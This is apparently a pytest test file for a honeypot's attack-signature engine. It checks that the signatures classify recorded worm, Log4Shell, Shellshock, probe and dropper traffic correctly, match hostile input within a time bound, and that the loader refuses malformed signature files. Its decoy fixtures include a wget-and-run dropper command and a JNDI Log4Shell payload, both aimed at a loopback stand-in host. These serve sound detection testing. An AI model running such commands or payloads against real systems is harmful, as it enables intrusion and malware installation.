"""Signatures as data: every signature on its own examples, on a benign corpus, on recorded
attacks, on hostile input under a time bound; the loader refuses bad files."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from pathlib import Path
from types import MappingProxyType

import pytest
import yaml

from mamori.model.watch import Danger, Event, EventType
from mamori.watch import signatures
from mamori.watch.logs import parse_line
from mamori.watch.signatures import SignatureError, check_examples, load_dir
from mamori.watch.signatures.spec import SignatureFile

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "watch"
NOW = datetime(2024, 3, 3, 1, 0, tzinfo=UTC)


def _event(type_: EventType, excerpt: str = "", **fields: str) -> Event:
    return Event(time=NOW, type=type_, source="test", src="127.0.130.50",
                 fields=MappingProxyType(fields), excerpt=excerpt)


def test_bundled_set_has_the_promised_kinds() -> None:
    sigs = signatures.load()
    kinds = {s.kind for s in sigs.signatures}
    assert {"worm.codered", "worm.nimda", "exploit.log4shell", "exploit.shellshock",
            "probe.env", "probe.git", "probe.wordpress", "probe.phpmyadmin", "traversal",
            "scanner.ua", "exploit.router", "exploit.phpunit", "exploit.shell"} <= kinds
    assert len({s.id for s in sigs.signatures}) == len(sigs)
    s = sigs.get("worm-codered")
    assert s is not None and s.family == "worm" and s.danger is Danger.MEDIUM
    assert s.title_en and s.title_ja
    assert sigs.get("no-such-signature") is None


def test_every_signature_on_its_own_examples() -> None:
    checked = 0
    for path in sorted(signatures.DEFAULT_DIR.glob("*.yaml")):
        data = SignatureFile.model_validate(yaml.safe_load(path.read_text()))
        sigs = signatures.load()
        for spec in data.signatures:
            sig = sigs.get(spec.id)
            assert sig is not None
            assert check_examples(spec, sig) == []
            for example in spec.examples:
                values = spec.example_values(example)
                assert sigs.match_values(values), (spec.id, example)
            checked += 1
    assert checked == len(signatures.load())


def test_benign_corpus_matches_nothing_that_matters() -> None:
    sigs = signatures.load()
    lines = (FIXTURES / "benign_access.log").read_text().splitlines()
    hits: dict[str, int] = {}
    for line in lines:
        event = parse_line("access", line)
        assert event is not None, line
        for sig_id in sigs.classify(event).signatures:
            hits[sig_id] = hits.get(sig_id, 0) + 1
    assert hits == {"scanner-ua-script": 5}  # the curl health checks, danger info only


EXPECTED_NGINX = [
    (), (), ("worm.codered",), ("worm.nimda",), ("worm.nimda",), ("worm.nimda",),
    ("traversal", "worm.nimda"), ("exploit.log4shell",), ("exploit.log4shell",),
    ("exploit.shellshock",), (), (), ("probe.env",), ("probe.git",), ("probe.wordpress",),
    ("probe.wordpress",), ("probe.phpmyadmin",),
    ("exploit.dropper", "exploit.router", "scanner.tool"), ("exploit.router",),
    ("exploit.router",), ("exploit.phpunit",), ("exploit.dropper", "exploit.shell"),
    ("exploit.router",), ("scanner.ua",), ("scanner.nmap",), ("scanner.ua",),
    ("scanner.tool", "traversal"), (), ("exploit.thinkphp",), ("scanner.ua",),
]


def test_recorded_attack_log_gets_the_right_kinds() -> None:
    sigs = signatures.load()
    lines = (FIXTURES / "access_nginx.log").read_text().splitlines()
    assert len(lines) == len(EXPECTED_NGINX)
    for line, expected in zip(lines, EXPECTED_NGINX, strict=True):
        event = parse_line("access", line)
        assert event is not None
        got = sigs.classify(event)
        kinds = tuple(sorted({sigs.get(s).kind for s in got.signatures}))  # type: ignore[union-attr]
        assert kinds == expected, line[:120]
        if expected:
            assert got.danger == max((sigs.get(s).danger for s in got.signatures),  # type: ignore[union-attr]
                                     key=lambda d: d.rank)


def test_decoy_events_are_classified_from_their_text() -> None:
    sigs = signatures.load()
    raw = _event(EventType.DECOY_DATA,
                 excerpt="GET /.git/config HTTP/1.1\\r\\nHost: x\\r\\n"
                         "User-Agent: Mozilla/5.0 zgrab/0.x\\r\\n\\r\\n")
    got = sigs.classify(raw)
    assert set(got.signatures) == {"probe-git", "scanner-ua-survey"}
    assert got.danger is Danger.MEDIUM
    login = sigs.classify(_event(EventType.DECOY_LOGIN, username="${jndi:ldap://127.0.130.66/a}",
                                 password="x"))
    assert login.signatures == ("exploit-log4shell",) and login.danger is Danger.HIGH
    cmd = sigs.classify(_event(EventType.DECOY_COMMAND, command=(
        "cd /tmp || cd /var/run; wget http://127.0.130.66/bins.sh; chmod 777 bins.sh; sh bins.sh")))
    assert "exploit-dropper" in cmd.signatures
    plain = _event(EventType.DECOY_COMMAND, command="uname -a")
    assert sigs.classify(plain) is plain
    # signatures already on the event are kept, danger never lowered
    pre = Event(time=NOW, type=EventType.HTTP_REQUEST, source="t", danger=Danger.CRITICAL,
                signatures=("earlier",), fields=MappingProxyType({"path": "/.env"}))
    got = sigs.classify(pre)
    assert got.signatures == ("earlier", "probe-env") and got.danger is Danger.CRITICAL


def test_url_decoding_is_bounded() -> None:
    sigs = signatures.load()
    dotdot = sigs.get("traversal-dotdot")
    assert dotdot is not None and dotdot.decode == 3
    assert dotdot.matches("/a/%25252e%25252e%25252f")  # three rounds: matched
    assert not dotdot.matches("/a/%2525252e%2525252e%2525252f")  # four rounds: beyond the bound
    env = sigs.get("probe-env")
    assert env is not None and env.matches("/%2eenv") and not env.matches("/%252e%252e%2eenvx")


ADVERSARIAL = [
    "${" * 4000, "${${" * 2000 + "j" * 100, "$" + "{" * 8000, "${" + "j" * 8000,
    "${" + "${::-j}" * 1200, "../" * 3000, "..%2f" * 2000, "%25" * 3000,
    "N" * 8000 + "!", "/default.ida?" + "N" * 8000, "() " * 3000 + "{", "wget " * 1600,
    "wget+" + "a" * 8000, "curl " + "x;" * 4000, "/" * 8000, "a" * 8000 + "\n" * 10,
    "\\" * 8000, "=.." * 3000 + "x", "?" * 8000, "%" * 8000,
]


def test_hostile_input_is_matched_in_bounded_time() -> None:
    sigs = signatures.load()
    fields = ("url", "path", "query", "headers", "user_agent", "body", "command", "username",
              "password")
    for text in ADVERSARIAL:
        long = text * 4  # longer than MAX_VALUE: cut first
        start = time.perf_counter()
        sigs.match_values({name: long for name in fields})
        for sig in sigs.signatures:
            sig.matches(text)
        elapsed = time.perf_counter() - start
        assert elapsed < 2.0, (text[:20], elapsed)  # backtracking blow-ups take minutes


def _write(tmp: Path, family: str, sig: dict[str, object]) -> Path:
    path = tmp / f"{family}.yaml"
    path.write_text(yaml.safe_dump({"family": family, "signatures": [sig]}))
    return path


GOOD = {
    "id": "probe-test", "kind": "probe.test", "danger": "low",
    "title": {"en": "Test probe", "ja": "テスト"}, "fields": ["path"],
    "match": {"substrings": ["/secret-file"]},
    "examples": ["/secret-file"], "counter_examples": ["/public-file"],
}


@pytest.mark.parametrize(("change", "message"), [
    ({"match": {"regex": "(a+)+b"}}, "catastrophic"),
    ({"match": {"regex": "(x)\\1"}}, "backreferences"),
    ({"match": {"regex": "(unclosed"}}, "invalid regex"),
    ({"match": {"substrings": ["/x"], "regex": "y"}}, "exactly one"),
    ({"examples": ["/other"]}, "example does not match"),
    ({"counter_examples": ["/secret-file-2"]}, "counter example matches"),
    ({"fields": ["path", "cookie"]}, "fields"),
    ({"kind": "worm.test"}, "not in family"),
    ({"danger": "apocalyptic"}, "danger"),
    ({"surprise": 1}, "surprise"),
    ({"examples": [{"username": "/secret-file"}]}, "does not apply"),
])
def test_loader_refuses_bad_signatures(tmp_path: Path, change: dict[str, object],
                                       message: str) -> None:
    _write(tmp_path, "probe", {**GOOD, **change})
    with pytest.raises(SignatureError, match=message):
        load_dir(tmp_path)


def test_loader_refuses_duplicates_and_misnamed_files(tmp_path: Path) -> None:
    ok = load_dir(_write(tmp_path, "probe", GOOD).parent)
    assert len(ok) == 1
    (tmp_path / "probe2.yaml").write_text(
        yaml.safe_dump({"family": "probe2", "signatures": [{**GOOD, "kind": "probe2.x"}]}))
    with pytest.raises(SignatureError, match="duplicate"):
        load_dir(tmp_path)
    (tmp_path / "probe2.yaml").unlink()
    (tmp_path / "other.yaml").write_text(yaml.safe_dump({"family": "probe", "signatures": [
        {**GOOD, "id": "probe-other"}]}))
    with pytest.raises(SignatureError, match="must match the file name"):
        load_dir(tmp_path)
    (tmp_path / "other.yaml").write_text("family: [unclosed")
    with pytest.raises(SignatureError, match=r"other\.yaml"):
        load_dir(tmp_path)


def test_classify_agrees_with_the_plain_reference() -> None:
    """classify matches piece by piece, gated and remembered; match_values is the plain
    loop over every signature. Both must give the same answer, also when served from the
    memory of values already judged (second pass)."""
    sigs = signatures.load()

    def ids(found: list[signatures.Signature]) -> set[str]:
        return {s.id for s in found}

    lines = [line for name in ("access_nginx.log", "access_apache.log", "benign_access.log")
             for line in (FIXTURES / name).read_text().splitlines()]
    for _ in range(2):
        for line in lines:
            event = parse_line("access", line)
            assert event is not None
            f = event.fields
            expected: set[str] = set()
            if url := f.get("url"):
                parts = {"url": url, "path": f["path"]}
                if "query" in f:
                    parts["query"] = f["query"]
                expected |= ids(sigs.match_values(parts))
            if agent := f.get("user_agent"):
                expected |= ids(sigs.match_values({"user_agent": agent, "headers": agent}))
            if referer := f.get("referer"):
                expected |= ids(sigs.match_values({"headers": referer}))
            assert set(sigs.classify(event).signatures) == expected, line[:100]


def test_memory_of_judged_values_is_bounded() -> None:
    sigs = load_dir(signatures.DEFAULT_DIR)  # a fresh set: load() is shared and cached
    url = sigs._pieces["url"]
    for i in range(20_000):
        event = parse_line("access", f'127.0.130.5 - - [03/Mar/2024:10:00:00 +0000] '
                                     f'"GET /item/{i}?x={i} HTTP/1.1" 200 1 "-" "agent {i % 7}"')
        assert event is not None
        sigs.classify(event)
    assert len(url.memory) <= 4096 and len(url.older) <= 4096
    assert len(sigs._pieces["user_agent"].memory) == 7
    # a value in use survives the generations; the answer is the same either way
    hot = '127.0.130.5 - - [03/Mar/2024:10:00:00 +0000] "GET /.env HTTP/1.1" 404 1 "-" "x"'
    for i in range(10_000):
        event = parse_line("access", hot if i % 10 == 0 else hot.replace("/.env", f"/a{i}"))
        assert event is not None
        got = sigs.classify(event)
        assert (got.signatures == ("probe-env",)) == (i % 10 == 0)
    assert "/.env" in url.memory or "/.env" in url.older
